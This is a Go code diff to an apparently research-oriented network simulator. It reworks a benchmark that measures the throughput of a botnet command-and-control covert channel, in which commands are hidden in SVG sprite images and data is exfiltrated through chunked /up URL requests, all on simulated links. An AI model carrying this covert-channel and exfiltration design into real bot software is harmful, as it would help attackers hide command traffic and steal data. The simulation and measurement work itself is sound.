@@ -134,11 +134,11 @@ func conditionsRow(lp netsim.LinkProfile, attempts, payload int) (ConditionsRow,
 		return row, fmt.Errorf("conditions %s evict: %w", lp.Name, err)
 	}
 	row.Evicted = evicted
-	gp, err := cncGoodput(lp, payload, runner.Seed(conditionsSeed, "goodput-"+lp.Name))
+	gp, err := runChannel(conditionsChannel(lp, payload, runner.Seed(conditionsSeed, "goodput-"+lp.Name)))
 	if err != nil {
 		return row, fmt.Errorf("conditions %s goodput: %w", lp.Name, err)
 	}
-	row.GoodputKBs = gp.KBs
+	row.GoodputKBs = rate(payload, gp.Down) / 1024
 	row.LinkLost = gp.Lost
 	row.LinkDup = gp.Duplicated
 	churn, err := conditionsChurn(lp, runner.Seed(conditionsSeed, "churn-"+lp.Name))
@@ -255,105 +255,169 @@ func conditionsChurn(lp netsim.LinkProfile, seed int64) (bool, error) {
 	return ok, nil
 }
 
-// goodputResult is one covert-channel transfer measurement.
-type goodputResult struct {
-	KBs        float64 // virtual-time downstream rate; 0 when the transfer failed
-	Lost       int     // frames the link dropped during the transfer
-	Duplicated int     // frames the link delivered twice
+// channelRun configures one covert-channel exchange on netsim: the bot
+// and the master on a dedicated segment with retransmitting stacks,
+// the bot keeping up to Window requests in flight (httpsim carries one
+// request per connection, so that is Window connections at once).
+type channelRun struct {
+	Link    netsim.LinkProfile
+	Latency time.Duration // the segment's propagation latency
+	// MasterDist and BotDist are each host's distance from the segment.
+	MasterDist, BotDist time.Duration
+	Payload             int
+	Seed                int64
+	Window              int  // requests in flight at once
+	Batch               int  // covert images per /batch request
+	Upload              bool // after the download, exfiltrate the payload through /up
 }
 
-// cncGoodput runs a full C&C downstream exchange — meta probe plus
-// every sprite batch, the exact bot protocol — over a dedicated faulty
-// link with retransmitting stacks, and measures goodput against the
-// virtual clock. The transfer either delivers the payload bit-exact or
-// reports a zero rate; a corrupted decode is an error, because
-// retransmission must never surface damaged bytes.
-func cncGoodput(lp netsim.LinkProfile, payload int, seed int64) (goodputResult, error) {
+// conditionsChannel is the conditions matrix's goodput cell: one
+// request at a time in 64-image sprites over a 200µs segment, with the
+// master 2ms and the bot 300µs away from it.
+func conditionsChannel(lp netsim.LinkProfile, payload int, seed int64) channelRun {
+	return channelRun{
+		Link: lp, Latency: 200 * time.Microsecond,
+		MasterDist: 2 * time.Millisecond, BotDist: 300 * time.Microsecond,
+		Payload: payload, Seed: seed, Window: 1, Batch: 64,
+	}
+}
+
+// channelResult is one covert-channel exchange's outcome.
+type channelResult struct {
+	Down       time.Duration // virtual time until the command was decoded; 0 when the download failed
+	Up         time.Duration // virtual time the upload took, fin included; 0 when it failed or did not run
+	Lost       int           // frames the link dropped
+	Duplicated int           // frames the link delivered twice
+}
+
+// rate is n bytes over d in bytes per virtual second; 0 for a failed leg.
+func rate(n int, d time.Duration) float64 {
+	if d <= 0 {
+		return 0
+	}
+	return float64(n) / d.Seconds()
+}
+
+// runChannel runs the exact bot protocol against a cnc.MasterServer on
+// netsim — a meta probe, every sprite batch and, with Upload, every
+// /up chunk and the fin — and times each leg on the virtual clock. A
+// leg the link defeats reports zero time; a transfer that completes
+// with damaged bytes is an error, because retransmission must never
+// surface them.
+func runChannel(c channelRun) (channelResult, error) {
 	const (
 		serverAddr netsim.Addr = "cnc-master"
 		clientAddr netsim.Addr = "cnc-bot"
 		botID                  = "bot-goodput"
-		batchSize              = 64
+		stream                 = "exfil"
 	)
 	net := netsim.New()
-	seg := net.MustSegment("uplink", 200*time.Microsecond)
-	seg.SetLinkProfile(lp)
-	srvIfc := seg.MustAttach(serverAddr, 2*time.Millisecond, nil)
-	cliIfc := seg.MustAttach(clientAddr, 300*time.Microsecond, nil)
-	srvStack := tcpsim.NewStack(net, srvIfc, tcpsim.WithSeed(seed+1), tcpsim.WithRetransmit())
-	cliStack := tcpsim.NewStack(net, cliIfc, tcpsim.WithSeed(seed+2), tcpsim.WithRetransmit())
+	seg := net.MustSegment("uplink", c.Latency)
+	seg.SetLinkProfile(c.Link)
+	srvIfc := seg.MustAttach(serverAddr, c.MasterDist, nil)
+	cliIfc := seg.MustAttach(clientAddr, c.BotDist, nil)
+	srvStack := tcpsim.NewStack(net, srvIfc, tcpsim.WithSeed(c.Seed+1), tcpsim.WithRetransmit())
+	cliStack := tcpsim.NewStack(net, cliIfc, tcpsim.WithSeed(c.Seed+2), tcpsim.WithRetransmit())
 
 	master := cnc.NewMasterServer()
 	if _, err := httpsim.NewServer(srvStack, 80, attacker.CNCAdapter(master)); err != nil {
-		return goodputResult{}, err
+		return channelResult{}, err
 	}
-	msg := make([]byte, payload)
+	msg := make([]byte, c.Payload)
 	for i := range msg {
-		msg[i] = byte(seed) + byte(i*7)
+		msg[i] = byte(c.Seed) + byte(i*7)
 	}
 	cmdID := master.QueueCommand(botID, msg)
 
 	client := httpsim.NewClient(cliStack)
-	get := func(path string, cb func(*httpsim.Response, error)) {
-		client.Get(serverAddr, 80, core.MasterHost, path, cb)
-	}
-	var (
-		dims     []cnc.Dim
-		count    int
-		done     time.Duration
-		fetchErr error
-	)
-	var fetchBatch func(from int)
-	fetchBatch = func(from int) {
-		n := batchSize
-		if from+n > count {
-			n = count - from
+	failed := false
+	// window GETs every path with at most c.Window requests in flight,
+	// hands each response body to got, and calls done once all have
+	// answered. After the first failure nothing new is issued.
+	window := func(paths []string, got func(i int, body []byte) error, done func()) {
+		next, answered := 0, 0
+		var issue func()
+		issue = func() {
+			i := next
+			next++
+			client.Get(serverAddr, 80, core.MasterHost, paths[i], func(resp *httpsim.Response, err error) {
+				if err == nil && got != nil {
+					err = got(i, resp.Body)
+				}
+				if err != nil || failed {
+					failed = true
+					return
+				}
+				answered++
+				if next < len(paths) {
+					issue()
+				} else if answered == len(paths) {
+					done()
+				}
+			})
 		}
-		get(fmt.Sprintf("/batch/%s/%d/%d/%d.svg", botID, cmdID, from, n), func(resp *httpsim.Response, err error) {
-			if err != nil {
-				fetchErr = err
-				return
-			}
-			got, err := cnc.ParseBatchSVG(dims, resp.Body)
-			if err != nil {
-				fetchErr = err
-				return
-			}
-			dims = got
-			if from+n < count {
-				fetchBatch(from + n)
-				return
-			}
-			done = net.Now()
+		for next < len(paths) && next < c.Window {
+			issue()
+		}
+	}
+
+	var res channelResult
+	upload := func() {
+		start := net.Now()
+		chunks := cnc.EncodeURLChunks(msg, cnc.DefaultChunkSize)
+		for i, chunk := range chunks {
+			chunks[i] = fmt.Sprintf("/up/%s/%s/%d/%s", botID, stream, i, chunk)
+		}
+		window(chunks, nil, func() {
+			window([]string{fmt.Sprintf("/up/%s/%s/fin", botID, stream)}, nil, func() { res.Up = net.Now() - start })
 		})
 	}
-	get(fmt.Sprintf("/meta/%s.svg", botID), func(resp *httpsim.Response, err error) {
+	var dims []cnc.Dim
+	window([]string{fmt.Sprintf("/meta/%s.svg", botID)}, func(_ int, body []byte) error {
+		meta, err := cnc.ParseSVG(body)
 		if err != nil {
-			fetchErr = err
-			return
+			return err
 		}
-		meta, err := cnc.ParseSVG(resp.Body)
-		if err != nil {
-			fetchErr = err
-			return
+		count := int(meta.H)
+		var paths []string
+		for from := 0; from < count; from += c.Batch {
+			paths = append(paths, fmt.Sprintf("/batch/%s/%d/%d/%d.svg", botID, cmdID, from, min(c.Batch, count-from)))
 		}
-		count = int(meta.H)
-		fetchBatch(0)
-	})
+		// Each sprite parses into its own slot of dims, so batches may
+		// answer in any order.
+		dims = make([]cnc.Dim, count)
+		window(paths, func(i int, body []byte) error {
+			from := i * c.Batch
+			to := min(from+c.Batch, count)
+			got, err := cnc.ParseBatchSVG(dims[from:from:to], body)
+			if err == nil && len(got) != to-from {
+				err = fmt.Errorf("sprite %d carries %d images, want %d", i, len(got), to-from)
+			}
+			return err
+		}, func() {
+			res.Down = net.Now()
+			if c.Upload {
+				upload()
+			}
+		})
+		return nil
+	}, func() {})
 	net.Run(0)
 
-	res := goodputResult{Lost: seg.Lost(), Duplicated: seg.Duplicated()}
-	if fetchErr != nil || done == 0 {
-		return res, nil // the link defeated the transfer: zero goodput
+	res.Lost, res.Duplicated = seg.Lost(), seg.Duplicated()
+	if res.Down == 0 {
+		return res, nil // the link defeated the transfer
 	}
 	data, err := cnc.DecodeDims(dims)
 	if err != nil {
-		return res, fmt.Errorf("cnc goodput decode: %w", err)
+		return res, fmt.Errorf("cnc channel decode: %w", err)
 	}
 	if !bytes.Equal(data, msg) {
-		return res, errors.New("cnc goodput: decoded payload differs — retransmission let corruption through")
+		return res, errors.New("cnc channel: decoded payload differs — retransmission let corruption through")
 	}
-	res.KBs = float64(payload) / done.Seconds() / 1024
+	if up, ok := master.Upload(botID, stream); res.Up > 0 && (!ok || !bytes.Equal(up, msg)) {
+		return res, errors.New("cnc channel: uploaded stream differs from the payload")
+	}
 	return res, nil
 }
 
